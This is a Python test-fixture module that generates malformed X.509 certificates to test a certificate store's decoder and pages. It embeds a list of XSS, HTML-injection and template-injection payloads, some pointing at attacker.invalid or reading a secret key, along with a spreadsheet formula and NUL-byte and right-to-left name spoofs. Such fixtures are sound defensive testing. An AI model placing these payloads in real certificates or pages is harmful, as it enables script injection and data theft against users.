"""Certificates that break pages, databases and exports elsewhere, though OpenSSL loads each of them.

`poison()` gives (what is wrong, DER) pairs, for the decoder's tests and for every page that shows one. All
are CAs, so that the trusted CA page takes them; all but those with a payload in the issuer are self-signed.
"""

from collections.abc import Iterator

from certstore.pki import der
from tests.raw import (
    CN,
    DNS_NAME,
    EMAIL_NAME,
    GENERALIZED_TIME,
    IS_A_CA,
    OU,
    URI_NAME,
    O,
    RawCertificate,
    alternative_names,
    attribute,
    name,
)

MARK = "xss-mark"  # what a script of these would write, for a browser to look for

PAYLOADS = (
    "<script>document.title='xss-mark'</script>",
    "</script><script>document.title='xss-mark'</script>",
    "<img src=x onerror=\"document.title='xss-mark'\">",
    "<img src=x onerror=document.title='xss-mark'>",
    "<svg onload=document.title='xss-mark'>",
    "<svg/onload=document.title='xss-mark'//",
    "<svg><script>document.title='xss-mark'</script></svg>",
    "<body onload=document.title='xss-mark'>",
    "<details open ontoggle=document.title='xss-mark'>",
    "<video><source onerror=document.title='xss-mark'></video>",
    "<audio src=x onerror=document.title='xss-mark'>",
    "<input autofocus onfocus=document.title='xss-mark'>",
    "<select autofocus onfocus=document.title='xss-mark'>",
    "<iframe srcdoc=\"<script>parent.document.title='xss-mark'</script>\">",
    "<iframe src=\"javascript:parent.document.title='xss-mark'\">",
    "<object data=\"javascript:document.title='xss-mark'\">",
    "<embed src=\"javascript:document.title='xss-mark'\">",
    "<a href=\"javascript:document.title='xss-mark'\">go</a>",
    "<form action=\"javascript:document.title='xss-mark'\"><button>go</button></form>",
    "<math href=\"javascript:document.title='xss-mark'\">go</math>",
    '<meta http-equiv="refresh" content="0;url=javascript:1">',
    '<base href="//attacker.invalid/">',
    '<link rel="stylesheet" href="//attacker.invalid/x.css">',
    "<style>@import '//attacker.invalid/x.css';</style>",
    '<div style="background:url(//attacker.invalid/x)">',
    "\"><script>document.title='xss-mark'</script>",
    "'><script>document.title='xss-mark'</script>",
    "\" onmouseover=\"document.title='xss-mark'",
    "' onmouseover='document.title=1",
    "--><script>document.title='xss-mark'</script>",
    "]]><script>document.title='xss-mark'</script>",
    "</title><script>document.title='xss-mark'</script>",
    "</textarea><script>document.title='xss-mark'</script>",
    "</pre><script>document.title='xss-mark'</script>",
    '<div hx-get="//attacker.invalid/" hx-trigger="load">',
    '<div hx-on:load="document.title=1">',
    '<div hx-swap-oob="true" id="main">gone</div>',
    "javascript:document.title='xss-mark'",
    "{{ constructor.constructor('document.title=1')() }}",
    "{% debug %}{{ settings.SECRET_KEY }}",
)


def poison() -> Iterator[tuple[str, bytes]]:
    """Everything: what is wrong, and the certificate in DER."""
    yield from odd_numbers_and_dates()
    yield from odd_names()
    yield from script_payloads()


def odd_numbers_and_dates() -> Iterator[tuple[str, bytes]]:
    """Serial numbers and dates that no column or calendar of the usual kind holds."""
    yield "159-bit serial", RawCertificate(serial=b"\x40" + bytes(18) + b"\x05").der
    yield "negative serial", RawCertificate(serial=b"\xff").der
    yield "serial 0", RawCertificate(serial=b"\0").der
    last_second = der.write(GENERALIZED_TIME, b"99991231235959Z")
    first_second = der.write(GENERALIZED_TIME, b"00010101000000Z")
    yield "notAfter 9999", RawCertificate(not_after=last_second).der
    yield "notBefore year 1", RawCertificate(not_before=first_second).der
    yield "years 1 to 9999", RawCertificate(not_before=first_second, not_after=last_second).der
    yield "notAfter before notBefore", RawCertificate(not_before=last_second, not_after=first_second).der


def odd_names() -> Iterator[tuple[str, bytes]]:
    """Names that are empty, endless, or hold what cannot be seen or should not be run."""
    yield "NUL in the CN", _with_cn("exp.example.com\0.attacker.invalid")
    yield "empty subject", RawCertificate(subject=name()).der
    yield "empty CN", _with_cn("")
    yield "right-to-left override", _with_cn("exp\u202emoc.elpmaxe")
    yield "newline", _with_cn("exp.example.com\nO=Forged, CN=forged.example.com")
    yield "a PEM block", _with_cn("\n-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
    yield "formula", _with_cn('=HYPERLINK("http://attacker.invalid/","open")')
    yield "formula with at", _with_cn("@SUM(1+1)")
    yield "template braces", _with_cn("{{ 7*7 }}{% now %}")
    yield "only a country", RawCertificate(subject=name(attribute("2.5.4.6", "GB"))).der
    yield "invisible signs", _with_cn("\u200b\u2066\u00ad\ufeff\u3164\u00a0")
    yield "outside of the first plane", _with_cn("\U0001f512 \U000e0041")
    yield "5 000 characters", _with_cn("x" * 5000)
    yield "1 000 OUs", RawCertificate(subject=name(*[attribute(OU, f"unit {n}") for n in range(1000)])).der
    many = alternative_names(*[(DNS_NAME, f"host-{number}.example.com") for number in range(10_000)])
    yield "10 000 SANs", RawCertificate(extensions=(IS_A_CA, many)).der
    lines = "a.example.com\n            X509v3 Basic Constraints: critical\n                CA:FALSE"
    yield "lines in a SAN", RawCertificate(extensions=(alternative_names((DNS_NAME, lines)), IS_A_CA)).der


def script_payloads() -> Iterator[tuple[str, bytes]]:
    """Each payload in the subject, in the issuer and in the alternative names."""
    for number, payload in enumerate(PAYLOADS):
        hostile = name(attribute(O, payload), attribute(CN, f"{payload} {number}"))
        yield f"payload {number} in the subject", RawCertificate(subject=hostile).der
        plain = name(attribute(CN, f"payload-{number}.example.com"))
        yield f"payload {number} in the issuer", RawCertificate(subject=plain, issuer=hostile).der
        listed = alternative_names((DNS_NAME, payload), (EMAIL_NAME, payload), (URI_NAME, payload))
        yield f"payload {number} in the SANs", RawCertificate(subject=plain, extensions=(IS_A_CA, listed)).der


def _with_cn(text: str) -> bytes:
    return RawCertificate(subject=name(attribute(O, "Example"), attribute(CN, text))).der
